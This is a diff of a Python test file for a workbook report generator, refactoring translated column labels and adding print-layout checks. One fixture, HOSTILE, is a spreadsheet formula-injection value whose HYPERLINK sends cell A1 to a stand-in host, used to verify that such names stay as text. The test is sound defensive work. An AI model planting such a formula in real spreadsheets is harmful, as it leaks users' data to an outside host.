@@ -22,11 +22,11 @@ from test_report_hq import Brigade, record_november
 
 from outpost.brigade import brigade_summary, export_summary
 from outpost.brigade.opening import open_hq
-from outpost.i18n import set_language
+from outpost.i18n import set_language, t
 from outpost.logbook import Logbook
 from outpost.model.schema import validate
 from outpost.reports import render
-from outpost.reports.rows import FIGURES, main_figures, value
+from outpost.reports.rows import main_figures, value
 from outpost.reports.sheet import SHEET_FIGURES
 
 HOSTILE = '=HYPERLINK("http://x.example/?leak="&A1,"看")'
@@ -174,7 +174,7 @@ def test_brigade_workbook_has_every_station_row_and_keeps_formula_names_as_text(
     for row, figures in zip(rows, [*doc["stations"], doc["total"]], strict=True):
         got = dict(zip(header, row, strict=False))
         for key, section, name in SHEET_FIGURES:
-            assert got[_label(key)] == value(figures, section, name), (key, figures["name"])
+            assert got[t(key)] == value(figures, section, name), (key, figures["name"])
         assert got["Patrols (2026-10)"] == figures["previous"]["patrols"]["count"]
         cov = figures["coverage"]
         assert (got["coverage"], got["entries missing"]) == (cov["status"], cov["missing_count"])
@@ -183,18 +183,14 @@ def test_brigade_workbook_has_every_station_row_and_keeps_formula_names_as_text(
     texts = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
     assert not [c for c in texts if c.data_type == "f"]
     assert {c.value for c in texts} >= {HOSTILE, MEDICINE}
-    figure_columns = [header.index(_label(key)) for key, _, _ in SHEET_FIGURES]
+    figure_columns = [header.index(t(key)) for key, _, _ in SHEET_FIGURES]
     assert all(isinstance(row[i], int | float) for row in rows for i in figure_columns)
     km = header.index("Patrol km") + 1
     assert sheet.cell(3, km).number_format == "0.0"
     assert sheet.page_setup.orientation == "landscape"
+    assert sheet.print_title_cols == "$A:$B"  # too wide to shrink: each page keeps the names
+    assert wb["Figures"].sheet_properties.pageSetUpPr.fitToPage  # narrow: fitted to the width
     assert wb["Figures"].oddFooter.center.text == "Page &P of &N"
-
-
-def _label(key: str) -> str:
-    from outpost.i18n import t
-
-    return t(key)
 
 
 def test_workbook_goes_to_a_pipe_but_never_to_a_terminal(world: dict[str, Path]) -> None:
@@ -313,7 +309,6 @@ def test_new_sections_get_their_sheets_and_columns(world: dict[str, Path]) -> No
     assert [r[1:5] for r in stock] == [["碘伏", -1, "瓶", "短缺"], ["布洛芬", 64, "片", None]]
     _, expiring = table(wb["近效期药品"])
     assert expiring == [[HOSTILE, "布洛芬", 100, "片", datetime(2027, 1, 15), 46]]
-    assert len(FIGURES) < len(SHEET_FIGURES)
 
 
 def schema_text() -> str:
